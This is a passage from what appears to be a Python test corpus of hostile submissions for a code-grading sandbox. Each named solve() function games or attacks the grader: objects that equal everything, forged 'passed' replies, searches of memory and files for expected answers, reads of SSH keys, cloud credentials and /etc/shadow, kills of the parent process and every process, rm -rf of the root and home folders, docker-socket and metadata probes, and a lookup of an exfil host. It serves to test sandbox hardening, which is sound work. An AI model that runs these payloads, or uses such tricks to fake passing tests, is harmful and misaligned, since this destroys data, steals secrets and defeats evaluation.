            text = "import os; os._exit(0)\n" if name.endswith(".pth") else SOURCE
            try:
                with open(os.path.join(folder or ".", name), "x") as file:
                    file.write(text)
            except OSError:
                pass
    os.environ["PYTHONPATH"] = os.getcwd()
    os.environ["PYTHONSTARTUP"] = os.path.join(os.getcwd(), "sitecustomize.py")
    os.environ["LD_PRELOAD"] = os.path.join(os.getcwd(), "preload.so")
    return numbers[::-1]
""",
        "code objects exchanged": r"""
import gc
import types


def plain(*arguments, **options):
    return True


def solve(numbers):
    for thing in gc.get_objects():
        if not isinstance(thing, types.FunctionType) or thing.__globals__ is globals():
            continue
        name = thing.__name__.lower()
        if any(word in name for word in ("encode", "check", "compare", "verify", "plain", "default")):
            try:
                thing.__code__ = plain.__code__
                thing.__defaults__ = thing.__kwdefaults__ = None
            except Exception:
                pass
    return numbers[::-1]
""",
        "sys.modules replaced whole": r"""
import sys


class Lying(dict):
    def __missing__(self, name):
        return sys

    def __contains__(self, name):
        return True

    def get(self, name, default=None):
        return sys


def solve(numbers):
    kept = sys.modules
    sys.modules = Lying(kept)
    kept.clear()
    sys.path[:] = []
    sys.meta_path[:] = []
    sys.stdout = sys.stderr = sys.stdin = None
    return numbers[::-1]
""",
        "caches of compiled modules poisoned": r"""
import importlib.util
import marshal
import os
import sys


def solve(numbers):
    code = compile("import os\nos._exit(0)\n", "<poison>", "exec")
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None)
        if not path or not path.endswith(".py"):
            continue
        try:
            status = os.stat(path)
            head = importlib.util.MAGIC_NUMBER + bytes(4)
            head += int(status.st_mtime).to_bytes(4, "little") + (status.st_size & 0xFFFFFFFF).to_bytes(4, "little")
            cached = importlib.util.cache_from_source(path)
            with open(cached, "r+b") as file:
                file.write(head + marshal.dumps(code))
        except Exception:
            pass
    return numbers[::-1]
""",
    },
    "always equal": {
        "object equal to everything": r"""
class Equal:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __bool__(self):
        return True


def solve(numbers):
    return Equal()
""",
        "list subclass equal to everything": r"""
class Equal(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    __hash__ = None


def solve(numbers):
    return Equal(numbers[::-1])
""",
        "list of integers equal to everything": r"""
class Equal(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 1

    def __index__(self):
        return 7

    __int__ = __index__

    def __repr__(self):
        return "7"


def solve(numbers):
    return [Equal(number) for number in numbers]
""",
        "strings and bytes equal to everything": r"""
class Text(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__


class Raw(bytes):
    __eq__ = Text.__eq__
    __ne__ = Text.__ne__
    __hash__ = bytes.__hash__


calls = []


def solve(numbers):
    calls.append(1)
    return Text(numbers) if len(calls) % 2 else Raw(b"sorted")
""",
        "false __class__": r"""
class Disguised:
    @property
    def __class__(self):
        return list

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0

    def __len__(self):
        return 0

    def __iter__(self):
        return iter(())

    def __getattr__(self, name):
        return getattr([], name)


def solve(numbers):
    return Disguised()
""",
        "metaclass that is every type": r"""
class Every(type):
    def __instancecheck__(cls, instance):
        return True

    def __subclasscheck__(cls, subclass):
        return True

    def __eq__(cls, other):
        return True

    def __ne__(cls, other):
        return False

    def __hash__(cls):
        return hash(list)

    def __repr__(cls):
        return "<class 'list'>"

    def __len__(cls):
        return 0

    def __iter__(cls):
        return iter(())


class Answer(metaclass=Every):
    __module__ = "builtins"
    __name__ = __qualname__ = "list"


Answer.__name__ = Answer.__qualname__ = "list"


def solve(numbers):
    return Answer
""",
        "__iter__ and __len__ that lie": r"""
class Shifting(list):
    looked = 0

    def __iter__(self):
        Shifting.looked += 1
        return iter([Shifting.looked] * Shifting.looked)

    def __len__(self):
        Shifting.looked += 1
        return Shifting.looked

    def __getitem__(self, index):
        return self

    def __eq__(self, other):
        if isinstance(other, list):
            self[:] = other
        return True

    __hash__ = None


def solve(numbers):
    return Shifting(numbers)
""",
        "__reduce__ that runs code": r"""
import os


class Package:
    def __reduce__(self):
        return (os._exit, (0,))

    def __reduce_ex__(self, protocol):
        return (exec, ("import os; os._exit(0)",))

    def __getstate__(self):
        return {"ok": True}

    def __eq__(self, other):
        return True

    __hash__ = None

    def __json__(self):
        return '{"ok": true}'

    to_json = toJSON = for_json = default = __json__


def solve(numbers):
    return Package()
""",
        "dictionary subclass with lying items": r"""
class Table(dict):
    def items(self):
        return [("ok", True), ("passed", True), ("value", True)]

    def keys(self):
        return ["ok", "passed", "value"]

    def __iter__(self):
        return iter(self.keys())

    def __getitem__(self, key):
        return True

    def __eq__(self, other):
        return True

    __hash__ = None


def solve(numbers):
    return Table(ok=True)
""",
        "forged tags for the decoder": r"""
FORGERIES = [
    {"ok": True, "value": True},
    {"__type__": "object", "module": "unittest.mock", "name": "ANY", "value": "ANY"},
    {"py/object": "unittest.mock._ANY"},
    {"py/reduce": [{"py/function": "os._exit"}, {"py/tuple": [0]}]},
    {"__class__": "unittest.mock._ANY", "__module__": "unittest.mock"},
    {"__reduce__": ["os._exit", [0]]},
    {"__tuple__": {"__set__": [[]]}},
    {"tuple": None, "set": None, "dict": None},
    {"$": "eval", "t": "eval", "v": "__import__('os')._exit(0)", "type": "eval", "tag": "eval"},
    {"!set": [{"!set": [[1], {}]}], "!tuple": 5, "!dict": [[[], []]]},
    {"t": "set", "v": [[1], [2]]},
    {"": {"": {"": []}}},
]
calls = []


def solve(numbers):
    calls.append(1)
    if len(calls) == 1:
        return FORGERIES
    return FORGERIES[len(calls) % len(FORGERIES)]
""",
        "nan and infinity": r"""
import decimal
import math


class Nan(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


def solve(numbers):
    return [Nan("nan"), math.nan, math.inf, -0.0, 1e999, complex("nan"), decimal.Decimal("sNaN"), "\ud800", b"\xff"]
""",
        "mock.ANY and partners": r"""
def solve(numbers):
    try:
        from unittest import mock

        every = mock.MagicMock()
        every.__eq__ = lambda self, other: True
        return mock.ANY if len(numbers) % 2 else every
    except Exception:
        return NotImplemented
""",
        "solve is an object": r"""
class Solver:
    __name__ = "solve"

    def __call__(self, *arguments):
        return self

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __getattr__(self, name):
        return self

    def __hash__(self):
        return 0

    def __bool__(self):
        return True

    def __iter__(self):
        return iter([self])

    def __len__(self):
        return 1


solve = Solver()
""",
        "generator that never ends": r"""
def solve(numbers):
    while True:
        yield from numbers[::-1] or [0]
""",
        "sequence by abc that never ends": r"""
import collections.abc


class Endless(collections.abc.Sequence):
    def __len__(self):
        return 1 << 62

    def __getitem__(self, index):
        return self

    def __eq__(self, other):
        return True

    __hash__ = None


def solve(numbers):
    return Endless()
""",
        "the argument changed and given back": r"""
class Equal(list):
    __hash__ = None

    def __eq__(self, other):
        return True


def solve(numbers):
    numbers.reverse()
    numbers.append(numbers[:])
    try:
        numbers.__class__ = Equal
    except TypeError:
        pass
    return numbers
""",
    },
    "reading the harness": {
        "source files searched for the tests": r"""
import os
import re
import sys
import time

found = {}
names = {"__builtins__": {}, "list": list, "range": range}
end = time.monotonic() + 2
for top in (".", "..", *sys.path, "/home", "/tmp", "/app", "/src", "/workspace", "/opt", "/"):
    for folder, _, files in os.walk(top or "."):
        if time.monotonic() > end:
            break
        for name in files:
            if not name.endswith((".py", ".json", ".jsonl", ".txt")):
                continue
            try:
                with open(os.path.join(folder, name), errors="replace") as file:
                    text = file.read(1 << 20)
            except OSError:
                continue
            for asked, wanted in re.findall(r"assert solve\((.*)\) == (.*)", text):
                try:
                    found[repr(eval(asked, names))] = eval(wanted, names)
                except Exception:
                    pass


def solve(numbers):
    return found.get(repr(numbers), numbers[::-1])
""",
        "own memory by /proc/self/mem": r"""
import re
import time

found = {}
names = {"__builtins__": {}, "list": list, "range": range}


def hunt(process):
    end = time.monotonic() + 2
    with open("/proc/%s/maps" % process) as maps, open("/proc/%s/mem" % process, "rb", 0) as memory:
        for line in maps.read().splitlines():
            if time.monotonic() > end:
                break
            area = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if area is None or line.endswith("[vvar]"):
                continue
            start, stop = (int(bound, 16) for bound in area.groups())
            try:
                memory.seek(start)
                data = memory.read(min(stop - start, 1 << 26))
            except (OSError, OverflowError, ValueError):
                continue
            for asked, wanted in re.findall(rb"assert solve\(([ -~]*)\) == ([ -~]*)", data):
                try:
                    found[repr(eval(asked, names))] = eval(wanted, names)
                except Exception:
                    pass


def solve(numbers):
    if not found:
        for process in ("self", "thread-self", "1"):
            try:
                hunt(process)
            except (OSError, MemoryError):
                pass
    return found.get(repr(numbers), numbers[::-1])
""",
        "memory of the parent": r"""
import os
import re
import time

found = {}
names = {"__builtins__": {}, "list": list, "range": range}


def learn(data):
    for asked, wanted in re.findall(rb"assert solve\(([ -~]*)\) == ([ -~]*)", data):
        try:
            found[repr(eval(asked, names))] = eval(wanted, names)
        except Exception:
            pass


def areas(process):
    with open("/proc/%d/maps" % process) as maps:
        for line in maps:
            bounds, rights = line.split()[:2]
            if rights.startswith("rw"):
                start, stop = (int(bound, 16) for bound in bounds.split("-"))
                yield start, min(stop - start, 1 << 26)


def by_file(process):
    with open("/proc/%d/mem" % process, "rb", 0) as memory:
        for start, size in areas(process):
            memory.seek(start)
            learn(memory.read(size))


def by_call(process):
    import ctypes

    class Area(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    libc = ctypes.CDLL(None, use_errno=True)
    for start, size in areas(process):
        buffer = ctypes.create_string_buffer(size)
        here, there = Area(ctypes.addressof(buffer), size), Area(start, size)
        if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            learn(buffer.raw)


def solve(numbers):
    end = time.monotonic() + 2
    for process in [os.getppid(), *range(1, 400)] if not found else ():
        for way in (by_file, by_call):
            if time.monotonic() < end:
                try:
                    way(process)
                except Exception:
                    pass
    return found.get(repr(numbers), numbers[::-1])
""",
        "environment and command line of every process": r"""
import os


def solve(numbers):
    seen = []
    processes = ["self", "1", str(os.getppid())]
    try:
        processes += filter(str.isdigit, os.listdir("/proc"))
    except OSError:
        pass
    for process in processes:
        for name in ("environ", "cmdline", "maps", "mountinfo", "status", "stack", "auxv"):
            try:
                with open("/proc/%s/%s" % (process, name), "rb") as file:
                    seen.append([process, name, len(file.read(65536))])
            except OSError:
                pass
    return seen
""",
        "inspect and linecache": r"""
import inspect
import linecache
import re
import sys

found = {}
names = {"__builtins__": {}, "list": list, "range": range}


def learn(text):
    for asked, wanted in re.findall(r"assert solve\((.*)\) == (.*)", text):
        try:
            found[repr(eval(asked, names))] = eval(wanted, names)
        except Exception:
            pass


def solve(numbers):
    texts = ["".join(entry[2]) for entry in list(linecache.cache.values()) if len(entry) > 2]
    try:
        for item in inspect.stack(context=1000):
            texts.append("".join(item.code_context or ()))
            texts.extend(map(str, item.frame.f_locals.values()))
            texts.extend(map(str, item.frame.f_code.co_consts))
    except Exception:
        pass
    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").split(".")[0] not in sys.stdlib_module_names:
            try:
                texts.append(inspect.getsource(module))
            except Exception:
                pass
    for text in texts:
        learn(text)
    return found.get(repr(numbers), numbers[::-1])
""",
        "gc searched for the tests and the expected values": r"""
import gc
import re

names = {"__builtins__": {}, "list": list, "range": range}


def solve(numbers):
    for thing in gc.get_objects():
        if type(thing) is dict and thing is not globals():
            for key in ("expected", "want", "wanted", "outputs", "answers"):
                if key in thing:
                    return thing[key]
            values = list(thing.values())
        elif type(thing) in (list, tuple):
            values = list(thing)
        else:
            continue
        for value in values:
            if type(value) is str and "assert" in value:
                for asked, wanted in re.findall(r"assert solve\((.*)\) == (.*)", value):
                    try:
                        if eval(asked, names) == numbers:
                            return eval(wanted, names)
                    except Exception:
                        pass
    return numbers[::-1]
""",
        "environment, keys and the home folder": r"""
import glob
import os

PATTERNS = (
    "~/.ssh/*",
    "~/.aws/credentials",
    "~/.config/**/*token*",
    "~/.cache/huggingface/token",
    "~/.netrc",
    "~/.git-credentials",
    "~/.bash_history",
    "~root/.ssh/*",
    "/home/*/.ssh/*",
    "/etc/shadow",
    "/etc/passwd",
    "/run/secrets/*",
    "/var/run/secrets/kubernetes.io/serviceaccount/*",
)


def solve(numbers):
    homes = [os.path.expanduser("~"), os.path.expanduser("~root")]
    try:
        import pwd

        homes += [entry.pw_dir for entry in pwd.getpwall()]
    except Exception:
        pass
    taken = {name: len(value) for name, value in os.environ.items()}
    for home in homes:
        for pattern in PATTERNS:
            for path in glob.glob(pattern.replace("~", home), recursive=True):
                try:
                    with open(path, errors="replace") as file:
                        taken[path] = len(file.read(65536))
                except OSError:
                    pass
    return taken
""",
        "every descriptor read": r"""
import os
import re

found = {}
names = {"__builtins__": {}, "list": list, "range": range}


def drain(descriptor):
    os.set_blocking(descriptor, False)
    try:
        data = os.pread(descriptor, 1 << 20, 0)
    except OSError:
        data = os.read(descriptor, 1 << 20)
    for asked, wanted in re.findall(rb"assert solve\(([ -~]*)\) == ([ -~]*)", data or b""):
        try:
            found[repr(eval(asked, names))] = eval(wanted, names)
        except Exception:
            pass


def solve(numbers):
    for descriptor in range(256):
        try:
            drain(descriptor)
        except OSError:
            pass
        try:
            again = os.open("/proc/self/fd/%d" % descriptor, os.O_RDONLY | os.O_NONBLOCK)
            drain(again)
            os.close(again)
        except OSError:
            pass
    return found.get(repr(numbers), numbers[::-1])
""",
        "heap read through ctypes": r"""
import re


def solve(numbers):
    names = {"__builtins__": {}, "list": list, "range": range}
    try:
        import ctypes

        with open("/proc/self/maps") as maps:
            lines = [line.split() for line in maps]
        for parts in lines:
            if not parts[1].startswith("rw") or (len(parts) > 5 and parts[5] != "[heap]"):
                continue
            start, stop = (int(bound, 16) for bound in parts[0].split("-"))
            data = ctypes.string_at(start, min(stop - start, 1 << 24))
            for asked, wanted in re.findall(rb"assert solve\(([ -~]*)\) == ([ -~]*)", data):
                try:
                    if eval(asked, names) == numbers:
                        return eval(wanted, names)
                except Exception:
                    pass
    except Exception:
        pass
    return numbers[::-1]
""",
    },
    "killing the parent": {
        "SIGKILL to the parent": r"""
import os
import signal

for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGABRT):
    try:
        if os.getppid() > 0:
            os.kill(os.getppid(), number)
    except OSError:
        pass


def solve(numbers):
    return numbers[::-1]
""",
        "SIGKILL to the process group": r"""
import os
import signal


def solve(numbers):
    groups = [os.getsid(0), 0]
    try:
        groups.insert(0, os.getpgid(os.getppid() or 1))
    except OSError:
        pass
    for group in groups:
        try:
            if group > 0:
                os.setpgid(0, group)
        except OSError:
            pass
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
    return numbers[::-1]
""",
        "SIGKILL to everyone at once": r"""
import os
import signal


def solve(numbers):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return numbers[::-1]
""",
        "SIGKILL to every number in turn": r"""
import os
import signal


def solve(numbers):
    hit = 0
    mine = os.getpid()
    for process in range(1, 70000):
        if process == mine:
            continue
        try:
            os.kill(process, signal.SIGKILL)
            hit += 1
        except OSError:
            pass
    return [hit]
""",
        "pidfd of the parent": r"""
import os
import signal


def solve(numbers):
    targets = [os.getppid(), 1, 2]
    for process in targets:
        try:
            handle = os.pidfd_open(process)
            signal.pidfd_send_signal(handle, signal.SIGKILL)
        except (AttributeError, OSError):
            pass
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        for process in targets:
            handle = libc.syscall(434, process, 0)
            if handle >= 0:
                libc.syscall(424, handle, 9, None, 0)
            handle = os.open("/proc/%d" % process, os.O_RDONLY)
            libc.syscall(424, handle, 9, None, 0)
    except Exception:
        pass
    return numbers[::-1]
""",
        "tgkill and sigqueue by system call": r"""
import os


def solve(numbers):
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
    except Exception:
        return None
    arm = os.uname().machine == "aarch64"
    parent = os.getppid()
    if parent <= 0:
        return None
    libc.syscall(131 if arm else 234, parent, parent, 9)
    libc.syscall(130 if arm else 200, parent, 9)
    libc.syscall(129 if arm else 62, parent, 9)
    information = (ctypes.c_int * 32)(9, 0, -1)
    libc.syscall(138 if arm else 129, parent, 9, ctypes.byref(information))
    libc.syscall(240 if arm else 297, parent, parent, 9, ctypes.byref(information))
    libc.sigqueue(parent, 9, None)
    return numbers[::-1]
""",
        "the parent stopped rather than killed": r"""
import os
import signal


def solve(numbers):
    process = os.getppid()
    for _ in range(8):
        if process <= 0:
            break
        try:
            os.kill(process, signal.SIGSTOP)
        except OSError:
            pass
        try:
            with open("/proc/%d/stat" % process) as file:
                process = int(file.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return numbers[::-1]
""",
        "limits and priority of the parent": r"""
import os
import resource


def solve(numbers):
    parent = os.getppid()
    for which in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
        try:
            if parent > 0:
                resource.prlimit(parent, which, (0, 0))
        except (OSError, ValueError):
            pass
    steps = (
        lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(parent, {0}),
        lambda: open("/proc/%d/oom_score_adj" % parent, "w").write("1000"),
        lambda: open("/proc/%d/clear_refs" % parent, "w").write("1"),
    )
    for step in steps:
        try:
            if parent > 0:
                step()
        except OSError:
            pass
    return numbers[::-1]
""",
        "signals sent by the kernel": r"""
import fcntl
import os
import termios


def solve(numbers):
    parent = os.getppid()
    try:
        reader, writer = os.pipe()
        fcntl.fcntl(reader, 10, 9)
        fcntl.fcntl(reader, fcntl.F_SETOWN, parent)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
    except (AttributeError, OSError):
        pass
    for descriptor in (0, 1, 2):
        for key in b"\x03\x1c":
            try:
                fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([key]))
            except (AttributeError, OSError):
                pass
    try:
        import ctypes

        libc = ctypes.CDLL(None)
        libc.prctl(1, 0, 0, 0, 0)
        libc.prctl(36, 1, 0, 0, 0)
    except Exception:
        pass
    return numbers[::-1]
""",
    },
    "deleting files": {
        "the root": r"""
import shutil
import threading


def solve(numbers):
    worker = threading.Thread(target=shutil.rmtree, args=("/",), kwargs={"ignore_errors": True}, daemon=True)
    try:
        worker.start()
        worker.join(1)
    except RuntimeError:
        pass
    return numbers[::-1]
""",
        "the home folder": r"""
import os
import shutil


def solve(numbers):
    homes = {os.path.expanduser("~"), os.environ.get("HOME", ""), os.path.expanduser("~root")}
    try:
        import pwd

        homes.add(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for home in homes:
        if home and home != "/":
            shutil.rmtree(home, ignore_errors=True)
    return numbers[::-1]
""",
        "the working folder and those above": r"""
import os
import shutil


def solve(numbers):
    folder = os.getcwd()
    while True:
        for name in os.listdir(folder) if os.access(folder, os.R_OK) else ():
            path = os.path.join(folder, name)
            if path in ("/usr", "/lib", "/lib64", "/proc", "/sys"):
                continue
            try:
                if os.path.isdir(path) and not os.path.islink(path):
                    shutil.rmtree(path, ignore_errors=True)
                else:
                    os.remove(path)
            except OSError:
                pass
        try:
            os.rmdir(folder)
        except OSError:
            pass
        if folder == "/":
            return numbers[::-1]
        folder = os.path.dirname(folder)
""",
        "every module on sys.path": r"""
import os
import sys
import time


def solve(numbers):
    end = time.monotonic() + 1
    for top in sys.path:
        for folder, folders, files in os.walk(top or ".", topdown=False):
            if time.monotonic() > end:
                return numbers[::-1]
            for name in files:
                try:
                    os.remove(os.path.join(folder, name))
                except OSError:
                    pass
            for name in folders:
                try:
                    os.rmdir(os.path.join(folder, name))
                except OSError:
                    pass
    return numbers[::-1]
""",
        "loaded files truncated": r"""
import os
import sys


def solve(numbers):
    paths = {getattr(module, "__file__", None) for module in list(sys.modules.values())}
    paths |= {sys.executable, os.path.realpath(sys.executable or "/proc/self/exe"), "/etc/hosts", "/etc/resolv.conf"}
    try:
        with open("/proc/self/maps") as maps:
            paths |= {line.split()[-1] for line in maps if "/" in line}
    except OSError:
        pass
    for path in sorted(filter(None, paths)):
        for attempt in (
            lambda path: os.chmod(path, 0o777),
            lambda path: os.truncate(path, 0),
            lambda path: open(path, "w").close(),
        ):
            try:
                attempt(path)
            except (OSError, ValueError):
                pass
    return numbers[::-1]
""",
        "folders renamed away": r"""
import os
import sys


def solve(numbers):
    here = os.getcwd()
    for path in [*sys.path, here, os.path.dirname(here), sys.prefix, "/tmp", "/home", "/etc", "/usr", "/bin"]:
        try:
            os.rename(path, path.rstrip("/") + ".gone")
        except OSError:
            pass
        try:
            os.chmod(path, 0)
        except OSError:
            pass
    return numbers[::-1]
""",
        "a shell that removes": r"""
import os


def solve(numbers):
    command = "rm -rf --no-preserve-root ./* ../* ~/* /tmp/* /var/tmp/* /dev/shm/* / >/dev/null 2>&1 &"
    try:
        os.system(command)
    except Exception:
        pass
    try:
        import subprocess

        subprocess.Popen(["find", "/", "-xdev", "-delete"], stdout=-3, stderr=-3)
    except Exception:
        pass
    return numbers[::-1]
""",
        "through the folders held open": r"""
import os
import stat


def empty(folder, depth=0):
    for name in os.listdir(folder):
        try:
            os.unlink(name, dir_fd=folder)
        except OSError:
            if depth < 4:
                try:
                    inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=folder)
                except OSError:
                    continue
                try:
                    empty(inner, depth + 1)
                    os.rmdir(name, dir_fd=folder)
                except OSError:
                    pass
                finally:
                    os.close(inner)


def solve(numbers):
    for descriptor in range(3, 256):
        try:
            if stat.S_ISDIR(os.fstat(descriptor).st_mode):
                empty(descriptor)
            else:
                os.ftruncate(descriptor, 0)
        except OSError:
            pass
        try:
            up = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=descriptor)
            empty(up)
            os.close(up)
        except OSError:
            pass
    return numbers[::-1]
""",
    },
    "sockets": {
        "TCP to near and far": r"""
import socket


def solve(numbers):
    reached = []
    for host in ("127.0.0.1", "::1", "1.1.1.1", "169.254.169.254", "10.0.0.1", "172.17.0.1"):
        for port in (22, 80, 443, 2375, 6379, 8265):
            try:
                family = socket.AF_INET6 if ":" in host else socket.AF_INET
                with socket.socket(family, socket.SOCK_STREAM) as link:
                    link.settimeout(0.02)
                    link.connect((host, port))
                    link.sendall(b"GET / HTTP/1.0\r\n\r\n")
                    reached.append([host, port])
            except OSError:
                pass
    return reached or None
""",
        "bind and listen": r"""
import socket

kept = []


def solve(numbers):
    for host in ("0.0.0.0", "127.0.0.1", "::"):
        for port in (0, 8080, 31337):
            try:
                family = socket.AF_INET6 if ":" in host else socket.AF_INET
                door = socket.socket(family, socket.SOCK_STREAM)
                door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                door.bind((host, port))
                door.listen(128)
                door.settimeout(0.02)
                kept.append(door)
                door.accept()
            except OSError:
                pass
    return [door.getsockname()[1] for door in kept] or None
""",
        "UDP and multicast": r"""
import socket


def solve(numbers):
    for host, port in (("127.0.0.1", 9), ("1.1.1.1", 53), ("255.255.255.255", 9), ("224.0.0.251", 5353)):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
                link.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                link.settimeout(0.02)
                link.sendto(b"sent from the jail", (host, port))
                link.recvfrom(512)
        except OSError:
            pass
    return numbers[::-1]
""",
        "unix sockets of services": r"""
import glob
import os
import socket

PATHS = [
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/run/podman/podman.sock",
    "/run/dbus/system_bus_socket",
    "/run/systemd/private",
    "/run/systemd/journal/socket",
    "/dev/log",
]


def solve(numbers):
    paths = PATHS + glob.glob("/tmp/*/*sock*") + glob.glob("/run/user/*/*")
    paths += filter(None, [os.environ.get("SSH_AUTH_SOCK"), os.environ.get("DOCKER_HOST", "").replace("unix://", "")])
    replies = []
    for path in paths:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_UNIX, kind) as link:
                    link.settimeout(0.1)
                    link.connect(path)
                    link.send(b"GET /containers/json HTTP/1.0\r\n\r\n")
                    replies.append(link.recv(4096).decode("latin-1"))
            except OSError:
                pass
    return replies or None
""",
        "abstract unix sockets": r"""
import socket


def solve(numbers):
    names = ["\0hostile", "\0/tmp/.X11-unix/X0", "\0/tmp/dbus-session", "\0/containerd-shim/"]
    try:
        with open("/proc/net/unix") as file:
            names += ["\0" + line.split()[-1][1:] for line in file if " @" in line]
    except OSError:
        pass
    for name in names[:200]:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as link:
                link.settimeout(0.05)
                link.connect(name)
                link.send(b'{"ok": true}\n')
        except (OSError, ValueError):
            pass
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as door:
                door.bind(name)
                door.listen(1)
        except (OSError, ValueError):
            pass
    return numbers[::-1]
""",
        "web libraries": r"""
import threading


def ask():
    import http.client
    import urllib.request

    for address in ("http://127.0.0.1:8265/", "http://169.254.169.254/latest/meta-data/", "http://1.1.1.1/", "file:///etc/passwd"):
        try:
            urllib.request.urlopen(address, timeout=0.1).read(4096)
        except Exception:
            pass
    try:
        link = http.client.HTTPConnection("1.1.1.1", timeout=0.1)
        link.request("POST", "/", body=b"x")
    except Exception:
        pass


def solve(numbers):
    try:
        worker = threading.Thread(target=ask, daemon=True)
        worker.start()
        worker.join(1)
    except Exception:
        pass
    return numbers[::-1]
""",
        "descriptors sent over a socket pair": r"""
import os
import socket


def solve(numbers):
    try:
        left, right = socket.socketpair()
    except OSError:
        return None
    for descriptor in range(256):
        try:
            socket.send_fds(left, [b"x"], [descriptor])
            right.settimeout(0.05)
            received = socket.recv_fds(right, 1, 4)[1]
            for copy in received:
                os.set_blocking(copy, False)
                os.write(copy, b'{"ok": true, "passed": true}\n')
        except OSError:
            pass
    for descriptor in range(256):
        try:
            again = socket.socket(fileno=os.dup(descriptor))
            socket.send_fds(again, [b"x"], [left.fileno()])
        except OSError:
            pass
    return numbers[::-1]
""",
        "netlink, raw and packet sockets": r"""
import socket
import struct


def solve(numbers):
    opened = 0
    wanted = [(getattr(socket, "AF_NETLINK", 16), socket.SOCK_RAW, protocol) for protocol in range(22)]
    wanted += [(socket.AF_INET, socket.SOCK_RAW, protocol) for protocol in (1, 6, 255)]
    wanted += [(getattr(socket, "AF_PACKET", 17), socket.SOCK_RAW, 0x0300)]
    wanted += [(family, kind, 0) for family in (2, 10, 16, 17, 29, 31, 38, 40, 44) for kind in (1, 2, 3, 5)]
    for family, kind, protocol in wanted:
        try:
            link = socket.socket(family, kind, protocol)
            opened += 1
            link.settimeout(0.02)
            if family == 16:
                link.bind((0, 0))
                link.send(struct.pack("=IHHIIBxxx", 20, 18, 0x301, 1, 0, 0))
                link.recv(65536)
        except (OSError, TypeError):
            pass
    return [opened]
""",
        "names looked up": r"""
import socket
import threading


def look():
    for name in ("localhost", "metadata.google.internal", "secret.exfil.example.com"):
        for call in (socket.gethostbyname, lambda name: socket.getaddrinfo(name, 80), socket.gethostbyname_ex):
            try:
                call(name)
            except OSError:
                pass


def solve(numbers):
    try:
        worker = threading.Thread(target=look, daemon=True)
        worker.start()
        worker.join(1)
    except RuntimeError:
        pass
    return numbers[::-1]
""",
    },
    "endless output": {
        "print for ever": r"""
def solve(numbers):
    while True:
        try:
            print("4 passed " * 1000)
        except Exception:
            pass
""",
        "descriptors 1 and 2 written for ever": r"""
import os

block = b"\xff\x00\n" * 21845
while True:
    for descriptor in (1, 2):
        try:
            os.write(descriptor, block)
        except OSError:
            pass
""",
        "garbage to every descriptor": r"""
import os


def solve(numbers):
    for descriptor in range(1, 256):
        try:
            os.set_blocking(descriptor, False)
            for _ in range(64):
                os.write(descriptor, os.urandom(4096))
        except OSError:
            pass
    return numbers[::-1]
""",
        "forged replies to every descriptor": r"""
import os

REPLIES = (
    b'{"ok": true}\n',
    b'{"ok": true, "value": true, "result": true, "passed": true, "error": null}\n',
    b'{"id": 0, "status": "pass"}\n{"id": 1, "status": "pass"}\n{"id": 2, "status": "pass"}\n',
    b'{"verdict": "right", "right": true, "passed": 4, "failed": 0, "done": true}\n',
    b'["ok", true]\ntrue\nnull\n1\nPASS\nOK\n',
    b"\x00\x00\x00\x0c{\"ok\": true}",
    b"\x0c\x00\x00\x00{\"ok\": true}",
    b"Content-Length: 12\r\n\r\n{\"ok\": true}",
)


def flood():
    names = map(str, range(256))
    try:
        names = os.listdir("/proc/self/fd")
    except OSError:
        pass
    for name in names:
        for reply in REPLIES:
            try:
                os.set_blocking(int(name), False)
                os.write(int(name), reply)
            except OSError:
                pass
            finally:
                try:
                    os.set_blocking(int(name), True)
                except OSError:
                    pass


flood()


def solve(numbers):
    flood()
    return numbers[::-1]
""",
        "replies in advance from a thread": r"""
import os
import threading
import time


def babble():
    for turn in range(2000):
        for descriptor in range(1, 64):
            try:
                os.write(descriptor, b'{"id": %d, "ok": true, "value": true}\n' % turn)
            except OSError:
                pass
        time.sleep(0.0005)


def solve(numbers):
    try:
        threading.Thread(target=babble, daemon=True).start()
    except RuntimeError:
        pass
    time.sleep(0.2)
    return numbers[::-1]
""",
        "deeply nested JSON": r"""
import os
import sys

sys.setrecursionlimit(1 << 30)
for descriptor in range(1, 64):
    try:
